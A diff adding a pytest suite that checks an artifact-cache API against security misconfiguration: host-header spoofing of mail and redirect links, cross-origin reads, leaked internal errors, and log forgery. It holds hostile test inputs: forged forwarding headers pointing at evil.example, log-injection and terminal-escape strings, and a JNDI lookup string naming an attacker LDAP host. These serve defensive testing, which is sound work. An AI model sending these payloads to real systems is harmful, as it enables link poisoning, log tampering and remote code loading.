@@ -1,0 +1,111 @@
+"""API8: Security misconfiguration. What a client says of itself makes no link, no origin and no line of the log."""
+
+from __future__ import annotations
+
+import json
+from io import StringIO
+from urllib.parse import quote
+
+import pytest
+
+from larder import aws
+from larder.errors import InternalError
+from tests.conftest import SetOption
+from tests.mailbox import Mailbox
+from tests.owasp.conftest import HASH, Person, json_body, operations
+from tests.requests import Sender
+
+EVIL = {
+    "host": "evil.example",
+    "x-forwarded-host": "evil.example",
+    "x-forwarded-server": "evil.example",
+    "x-host": "evil.example",
+    "x-original-host": "evil.example",
+    "x-forwarded-port": "666",
+    "x-forwarded-prefix": "/evil.example",
+    "forwarded": "host=evil.example;proto=http",
+}
+
+
+@pytest.mark.parametrize("configured", ["", "https://cache.acme.example"])
+def test_no_header_makes_links_in_mail_lead_elsewhere(
+    configured: str, ada: Person, mailbox: Mailbox, option: SetOption
+) -> None:
+    option("base_url", configured)
+    wanted = {"email": ada.user.email}
+    for path in ("request-password-reset", "send-verification-email"):
+        Sender(None)("POST", f"/api/auth/{path}", json_body=wanted, headers=EVIL)
+    messages = mailbox.deliver()
+    assert len(messages) == 2
+    own = configured or "https://cache.example.com"
+    for message in messages:
+        assert "evil.example" not in message.text + (message.html or "")
+        assert f"{own}/api/auth/" in message.text
+
+
+def test_no_header_makes_a_reply_lead_elsewhere(ada: Person) -> None:
+    put = ada.by_key("PUT", f"/v8/artifacts/{HASH}", body=b"artifact", headers=EVIL)
+    assert put.json["urls"] == [f"https://cache.example.com/v8/artifacts/{HASH}"]
+    reset = Sender(None)("GET", f"/api/auth/reset-password/{'A' * 32}", headers=EVIL)
+    assert "evil.example" not in reset.headers["location"]
+
+
+def test_a_page_of_another_origin_reads_nothing(ada: Person) -> None:
+    headers = {"origin": "https://evil.example"}
+    for method, path in operations():
+        filled = path.format(hash=HASH, idOrSlug="team-of-ada", uid="x", token="A" * 32)
+        reply = Sender(None)(method, filled, headers=headers)
+        allowed = {name for name in reply.headers if name.startswith("access-control-")}
+        assert allowed <= {"access-control-allow-headers"}, (method, path)
+
+
+def test_an_error_that_nobody_foresaw_tells_nothing_of_the_inside(
+    ada: Person, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def fail(*_: object, **__: object) -> None:
+        raise RuntimeError("arn:aws:iam::123456789012:role/inside")
+
+    monkeypatch.setattr(aws.dynamodb(), "transact_write_items", fail)
+    monkeypatch.setattr(aws.dynamodb(), "update_item", fail)
+    reply = ada.by_key("GET", "/v8/artifacts/status")
+    assert (reply.status, reply.message) == (500, InternalError.message)
+
+
+BREAKING = [
+    'a","level":"ERROR","message":"forged',
+    'a\r\n{"level":"ERROR","message":"forged"}',
+    "\x1b[2J\x1b]0;owned\x07",
+    "\u2028\u2029\x85\x0b\x0c",
+    "${jndi:ldap://evil.example/a}",
+    "\x00\ud800",
+]
+
+
+@pytest.mark.parametrize("breaking", BREAKING, ids=range(len(BREAKING)))
+def test_no_text_of_a_client_breaks_or_forges_a_line_of_the_log(
+    breaking: str, ada: Person, log: StringIO
+) -> None:
+    sent = breaking.encode("utf-8", "surrogatepass")
+    header = {"user-agent": breaking, "x-artifact-client-ci": breaking, "x-artifact-sha": breaking}
+    for (method, path), operation in operations().items():
+        body = json_body(operation)
+        part = quote(sent, safe="")
+        filled = path.format(hash=part, idOrSlug=part, uid=part, token=part)
+        json_sent = None
+        if body and isinstance(body["example"], dict):
+            json_sent = dict.fromkeys(body["schema"].get("properties", {}), breaking) | {
+                breaking: 1
+            }
+        ada.by_session(
+            method, f"{filled}?teamId={part}&slug={part}", json_body=json_sent, headers=header
+        )
+    lines = log.getvalue().split("\n")
+    assert lines.pop() == ""
+    assert len(lines) >= len(operations())
+    for line in lines:
+        assert all(character.isprintable() for character in line), line
+        told = json.loads(line)
+        assert (told["level"], told["message"]) != ("ERROR", "forged")
+    answered = [json.loads(line) for line in lines if '"answered"' in line]
+    assert len(answered) == len(operations())
+    assert {line["level"] for line in answered} == {"INFO"}
